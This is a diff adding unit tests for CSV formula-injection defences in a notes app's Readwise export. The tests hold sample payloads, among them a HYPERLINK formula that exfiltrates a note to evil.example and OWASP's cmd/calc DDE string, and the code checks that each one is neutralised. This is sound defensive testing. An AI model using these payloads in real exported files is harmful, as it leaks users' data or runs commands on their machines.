@@ -5,12 +5,15 @@ import type { Note } from '../../utils/model';
 import { FormatError } from '../../utils/export/backup';
 import {
   READWISE_COLUMNS,
+  csvCell,
   csvField,
+  neutralizeCell,
   parseCsv,
   parseReadwiseCsv,
   readwiseDate,
   readwiseNote,
   readwiseToRecords,
+  restoreCell,
   splitTags,
   toReadwiseCsv,
 } from '../../utils/export/csv';
@@ -79,6 +82,87 @@ describe('toReadwiseCsv', () => {
     expect(rows.get(notes[0]!.exact)!.slice(1, 3)).toEqual([notes[0]!.url, '']);
     expect(rows.get(notes[2]!.exact)![5]).toBe('7');
     expect(rows.get(notes[3]!.exact)![5]).toBe('');
+  });
+});
+
+describe('formula cells (OWASP CSV injection)', () => {
+  const URL = 'https://www.exemple.fr/article';
+  const note = (exact: string, extra: Partial<Note> = {}): Note => ({
+    id: crypto.randomUUID(),
+    url: URL,
+    kind: 'highlight',
+    color: 'yellow',
+    exact,
+    selectors: [{ type: 'TextQuoteSelector', exact }],
+    note: '',
+    tags: [],
+    createdAt: Date.UTC(2024, 2, 7),
+    updatedAt: Date.UTC(2024, 2, 7),
+    ...extra,
+  });
+  /** The cells of the file's first row, as a spreadsheet reads them (no import-side restoring). */
+  const firstRow = (csv: string) => parseCsv(csv)[1]!;
+
+  it.each(['=', '+', '-', '@', '\t', '\r'])('a cell starting with %j is written quoted, after a single quote', (c) => {
+    const text = `${c}1+2`;
+    const csv = toReadwiseCsv([{ id: 'a', url: URL, title: 'Titre', tags: [], createdAt: 0, updatedAt: 0 }], [note(`Passage ${c}`, { note: text })]);
+    expect(firstRow(csv)[4]).toBe(`'${text}`);
+    expect(csv).toContain(`,"'${text}",`);
+    expect(csvCell(text)).toBe(`"'${text}"`);
+  });
+
+  it('defuses a page title that would send the row’s note to another site', () => {
+    const title = '=HYPERLINK("https://evil.example/?"&E2,"x")';
+    const csv = toReadwiseCsv([{ id: 'a', url: URL, title, tags: [], createdAt: 0, updatedAt: 0 }], [note('Un passage', { note: 'ma note privée' })]);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&E2,""x"")",`);
+    const cells = firstRow(csv);
+    expect(cells[1]).toBe(`'${title}`);
+    // No cell of the file starts as a formula.
+    for (const cell of parseCsv(csv).flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
+  });
+
+  it.each([
+    // OWASP's own examples: the separator and quotes inside the cell cannot start another cell.
+    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
+    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+  ])('OWASP’s example %j → %j', (value, field) => {
+    expect(csvCell(value)).toBe(field);
+  });
+
+  it.each([
+    [' =1+2', `"' =1+2"`],
+    ['  -5', `"'  -5"`],
+    ['\n@x', `"'\n@x"`],
+    ['\u00a0+1', `"'\u00a0+1"`],
+    ['\u3000=1', `"'\u3000=1"`],
+  ])('a formula behind leading whitespace %j is neutralised too (an importer may trim it)', (value, field) => {
+    expect(csvCell(value)).toBe(field);
+  });
+
+  it.each(['plain', ' spaced text', 'a=b', '1-2', "'Tis the season", '', '.tag note', '＝1+2'])('leaves %j as it was', (value) => {
+    expect(neutralizeCell(value)).toBe(value);
+    expect(restoreCell(value)).toBe(value);
+  });
+
+  it('round trip through the importer: neutralised text, and text with its own leading quotes, come back exactly', () => {
+    const texts = ['-5% de marge', '=SOMME(A1:A3)', '+33 6 12 34 56 78', '@dupont a raison', '\tindenté', ' =espace', "'=déjà neutralisé", "''+deux", "'Tis", "'"];
+    const csv = toReadwiseCsv([], texts.map((t, i) => note(`${t} (passage ${i})`, { note: t, exact: t.trim() ? t : `x${i}` })));
+    const back = readwiseToRecords(parseReadwiseCsv(csv)).notes;
+    expect(back.map((n) => n.note)).toEqual(texts);
+    expect(back.map((n) => n.exact)).toEqual(texts.map((t, i) => (t.trim() ? t : `x${i}`)));
+  });
+
+  it('property: restoreCell undoes neutralizeCell, and no neutralised cell starts as a formula', () => {
+    const cell = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u00a0', 'a', '5') });
+    fc.assert(
+      fc.property(cell, (value) => {
+        const safe = neutralizeCell(value);
+        expect(restoreCell(safe)).toBe(value);
+        expect(safe).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
+      }),
+      { numRuns: 2_000 },
+    );
   });
 });
 
